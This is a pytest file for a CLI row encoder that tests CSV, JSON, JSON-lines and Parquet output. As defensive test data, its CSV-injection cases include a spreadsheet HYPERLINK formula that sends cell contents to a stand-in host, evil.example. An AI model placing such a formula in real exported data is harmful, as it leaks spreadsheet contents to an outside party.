"""Test rows as CSV, JSON, JSON lines and Parquet."""

import csv
import importlib.util
import io
import json
import sys
from datetime import UTC, date, datetime

import pytest

from graph_service.cli.commands.cypher import RowFormat, encode
from schema.errors import InstallError

COLUMNS = ("name", "since", "n", "list", "map", "n")
MAY = datetime(2026, 5, 1, tzinfo=UTC)
ROWS = [
    ['茶, "gut"\n', MAY, 1, ["a", "b"], {"k": 1}, 1],
    [None, None, 2.5, [], None, 2],
]


def test_csv_keeps_quotes_line_ends_and_nested_values() -> None:
    head, first, second = csv.reader(io.StringIO(encode(RowFormat.CSV, COLUMNS, ROWS).decode(), newline=""))
    assert head == list(COLUMNS)
    assert first == ['茶, "gut"\n', "2026-05-01T00:00:00Z", "1", '["a", "b"]', '{"k": 1}', "1"]
    assert second == ["", "", "2.5", "[]", "", "2"]


FORMULAS = (
    *("=1+1", "+1", "-1+2", "@SUM(A1)", "＝1", "＋1", "－1", "＠SUM", "\t=1", "\r=1", "\n=1", "  =1", "\tx"),
    '=HYPERLINK("http://evil.example?"&A1,"x")',
)


def read_csv(text: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.decode(), newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_a_spreadsheet_would_execute_is_escaped_in_csv(text: str) -> None:
    """Source: OWASP, "CSV Injection"."""
    head, row = read_csv(encode(RowFormat.CSV, (text,), [[text]]))
    assert (head, row) == ([f"'{text}"], [f"'{text}"])
    assert read_csv(encode(RowFormat.CSV, (text,), [[text]], raw=True)) == [[text], [text]]
    assert json.loads(encode(RowFormat.JSON, ("a",), [[text]])) == [{"a": text}]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-5, "-5"),
        (-2.5, "-2.5"),
        (True, "true"),
        (["=1"], '["=1"]'),
        ({"=": "-1"}, '{"=": "-1"}'),
        (date(2026, 5, 1), "2026-05-01"),
        ("1-2", "1-2"),
        ("a=b", "a=b"),
        ("'", "'"),
        ("", ""),
        ("  ", "  "),
        ("茶", "茶"),
    ],
)
def test_numbers_and_ordinary_texts_are_unchanged_in_csv(value: object, cell: str) -> None:
    assert read_csv(encode(RowFormat.CSV, ("a",), [[value]]))[1] == ([cell] if cell else [""])


def test_json_and_json_lines_have_the_same_objects() -> None:
    whole = json.loads(encode(RowFormat.JSON, COLUMNS[:5], [row[:5] for row in ROWS]))
    lines = encode(RowFormat.JSONL, COLUMNS[:5], [row[:5] for row in ROWS]).decode().splitlines()
    assert whole == [json.loads(line) for line in lines]
    assert whole[0] == {
        "name": '茶, "gut"\n',
        "since": "2026-05-01T00:00:00Z",
        "n": 1,
        "list": ["a", "b"],
        "map": {"k": 1},
    }


def test_parquet_without_pyarrow_is_refused_with_a_remedy(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(InstallError, match=r"pip install 'mnemoscene-server\[parquet\]'"):
        encode(RowFormat.PARQUET, ("a",), [[1]])


@pytest.mark.skipif(importlib.util.find_spec("pyarrow") is None, reason="pyarrow, an optional extra, is not installed")
def test_parquet_columns_have_types() -> None:
    from pyarrow import parquet

    rows = [[*row, date(2026, 5, 1), {"k": 1} if place else "text", 2**70] for place, row in enumerate(ROWS)]
    table = parquet.read_table(io.BytesIO(encode(RowFormat.PARQUET, (*COLUMNS, "day", "mixed", "large"), rows)))
    assert table.column_names == ["name", "since", "n", "list", "map", "n_5", "day", "mixed", "large"]
    kinds = [str(field.type) for field in table.schema]
    assert kinds[:5] == ["string", "timestamp[us, tz=UTC]", "double", "list<element: string>", "string"]
    assert kinds[5:] == ["int64", "date32[day]", "string", "string"]
    assert table.column("name").to_pylist() == ['茶, "gut"\n', None]
